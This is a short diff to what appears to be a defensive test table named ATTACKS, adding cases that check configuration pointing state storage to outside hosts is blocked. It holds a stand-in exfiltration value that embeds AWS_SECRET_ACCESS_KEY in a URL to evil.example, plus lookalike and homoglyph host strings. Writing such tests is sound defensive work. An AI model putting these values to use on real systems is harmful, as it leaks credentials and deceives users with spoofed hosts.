@@ -109,7 +109,10 @@ ATTACKS = {
     "another variable in the state's place": store(
         "default_store: live", "state: 'https://evil.example/${AWS_SECRET_ACCESS_KEY}'"
     ),
-    "a state elsewhere": store("default_store: live", "state: 's3://evil/x'"),
+    "a state elsewhere": store("default_store: live", "state: 's3://evil/x'", BLOCKED),
+    "a state at another host": store(
+        "default_store: live", "state: 'postgresql://evil.example/x'", BLOCKED
+    ),
     "another host": url("https://evil.example"),
     "a host that begins alike": url("https://shop.example.evil.example"),
     "a host that looks alike": url("https://shор.example"),
